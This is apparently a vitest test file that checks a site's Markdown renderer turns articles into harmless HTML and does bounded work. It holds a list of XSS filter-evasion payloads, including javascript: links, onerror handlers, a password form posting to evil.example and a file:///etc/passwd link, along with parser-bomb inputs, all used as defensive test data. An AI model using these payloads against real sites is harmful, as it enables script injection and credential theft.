// Markdown of articles against attacks (issue 20, done 2): nothing executes, nothing foreign is loaded, work is bounded.

import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { firstTexts, MAX_SOURCE, render } from '../../src/content/index.ts';

/** Everything that an article's HTML may hold: names of elements and attributes. */
const ELEMENTS = new Set(
  'h2 h3 h4 p ul ol li blockquote hr br strong em s code pre a img table thead tbody tr th td'.split(' '),
);
const ATTRIBUTES = new Set(['href', 'rel', 'src', 'alt', 'start', 'id', 'class']);

/** The tags of HTML. Whatever is escaped is text and has none. */
function tagsOf(html: string): { readonly name: string; readonly attributes: ReadonlyMap<string, string> }[] {
  return [...html.matchAll(/<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, name = '', rest = '']) => ({
      name: name.toLowerCase(),
      attributes: new Map(
        [...rest.matchAll(/([a-z-]+)(?:="([^"]*)")?/gi)].map(([, one = '', value = '']) => [one, value]),
      ),
    }),
  );
}

/** Expects HTML of listed elements only, whose addresses are of this exchange or plain https. */
function expectHarmless(html: string): void {
  const tags = tagsOf(html);
  // No angle bracket outside the tags that were read: nothing a browser would read as another tag.
  expect(html.split('<').length - 1, html.slice(0, 200)).toBe(tags.length);
  for (const { name, attributes } of tags) {
    expect(ELEMENTS.has(name), `${name} in ${html.slice(0, 200)}`).toBe(true);
    for (const [attribute, value] of attributes) {
      expect(ATTRIBUTES.has(attribute), `${attribute} in ${html.slice(0, 200)}`).toBe(true);
      if (attribute === 'src') expect(value).toMatch(/^\/api\/file\/[0-9A-Za-z-]{1,64}$/);
      if (attribute === 'href') expect(value).toMatch(/^(?:\/(?!\/)|#|https:\/\/[a-z0-9.-]+(?:[/?#]|$))/i);
      if (attribute === 'class') expect(['left', 'center', 'right']).toContain(value);
    }
  }
}

/** Payloads of the kinds in the OWASP filter evasion list, in Markdown and in HTML. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/x)',
  '[x](/\\evil.example/x)',
  '[x](\\\\evil.example/x)',
  '[x](http://plain.example/)',
  '[x](https://user@evil.example/)',
  '[x](https://user:pass@evil.example/)',
  '[x](https://evil.example:8080/)',
  '[x](https://evil.example" onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://user@evil.example>',
  '![x](https://evil.example/pixel.png)',
  '![x](//evil.example/pixel.png)',
  '![x](/api/user/logout)',
  '![x](/api/file/../user/logout)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](/api/file/abc)',
  '![x](/api/file/abc"onerror=alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| a" onclick="alert(1) |\n| :-: |\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
  '\u0000<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202ehttps://evil.example\u202c',
];

describe('articles’ Markdown (issue 20, done 2)', () => {
  it.each(PAYLOADS)('makes nothing that executes or loads from elsewhere: %j', (payload) => {
    for (const source of [payload, `text ${payload} text`, `> - ${payload}`, `**${payload}**`, `| ${payload} |\n| - |`])
      expectHarmless(render(source).html);
  });

  it('links only to this exchange and to plain https hosts without letters that imitate others', () => {
    const hrefs = (source: string) =>
      tagsOf(render(source).html).flatMap(({ attributes }) => attributes.get('href') ?? []);
    expect(hrefs('[a](/rule/index?key=spot) [b](https://www.postgresql.org/docs/18/) [c](#part-1)')).toEqual([
      '/rule/index?key=spot',
      'https://www.postgresql.org/docs/18/',
      '#part-1',
    ]);
    // Cyrillic letters, and the encoded form of such a name.
    for (const host of ['vitrіne.example', 'pаypal.example', 'xn--pypal-4ve.example', 'a.xn--pypal-4ve.example'])
      expect(hrefs(`[x](https://${host}/)`), host).toEqual([]);
    expect(render('[x](https://www.postgresql.org/)').html).toContain('rel="noopener noreferrer nofollow"');
  });

  it('shows pictures of its own uploads only', () => {
    expect(render('![A form](/api/file/0b1c-9)').html).toBe('<p><img src="/api/file/0b1c-9" alt="A form" /></p>\n');
    for (const source of ['![x](/api/file/a/b)', '![x](/help.png)', '![x](https://evil.example/a.png)'])
      expect(render(source).html).not.toContain('<img');
  });

  it('numbers its sections and aligns columns by class', () => {
    const { html, text } = render('## One\n\ntext *two*\n\n# Three\n\n| a | b |\n| - | -: |\n| 1 | 2 |');
    expect(html).toContain('<h2 id="part-1">One</h2>');
    expect(html).toContain('<h2 id="part-2">Three</h2>');
    expect(html).toContain('<td class="right">2</td>');
    expect(text).toContain('One text two');
  });

  it('does work that grows with the length of the source only', () => {
    const bombs: readonly ((length: number) => string)[] = [
      (length) => 'a'.repeat(length),
      (length) => '> '.repeat(length / 2),
      (length) => '- '.repeat(length / 2),
      (length) => '['.repeat(length),
      (length) => '!['.repeat(length / 2),
      (length) => '![a]('.repeat(length / 5),
      (length) => '*a **b '.repeat(length / 7),
      (length) => '_a'.repeat(length / 2),
      (length) => '`a'.repeat(length / 2),
      (length) => '<a '.repeat(length / 3),
      (length) => '&amp;'.repeat(length / 5),
      (length) => `${'|'.repeat(length / 2)}\n${'|-'.repeat(length / 4)}|\n`,
      (length) => Array.from({ length: length / 12 }, (_, at) => `[a${at}]: /x`).join('\n'),
      (length) => '#'.repeat(length),
      (length) => '\\'.repeat(length),
    ];
    for (const bomb of bombs) {
      const source = bomb(MAX_SOURCE).slice(0, MAX_SOURCE);
      const { html } = render(source);
      expectHarmless(html);
      // Tokens are what the renderer and the sanitiser walk: never more than characters.
      const tokens = new MarkdownIt({ html: false, maxNesting: 20 }).parse(source, {});
      const count = tokens.length + tokens.reduce((sum, { children }) => sum + (children?.length ?? 0), 0);
      expect(count).toBeLessThanOrEqual(2 * source.length);
      expect(html.length).toBeLessThanOrEqual(10 * source.length + 100);
    }
  });

  it('refuses a source of more than the limit, as a line of 100,000 characters', () => {
    expect(() => render('a'.repeat(100_000))).toThrow(RangeError);
    expect(() => render('a'.repeat(MAX_SOURCE))).not.toThrow();
  });

  it('renders every first article to harmless HTML whose links are pages', async () => {
    const texts = [...(await firstTexts('en')).values()];
    expect(texts.filter(({ kind }) => kind === 'help' || kind === 'hot').length).toBeGreaterThanOrEqual(12);
    expect(texts.filter(({ kind }) => kind === 'notice').length).toBeGreaterThanOrEqual(2);
    for (const { source } of texts) {
      const { html } = render(source);
      expectHarmless(html);
      for (const { name, attributes } of tagsOf(html))
        if (name === 'a' && attributes.size > 0) expect(attributes.get('href')).toMatch(/^\//);
    }
  });
});
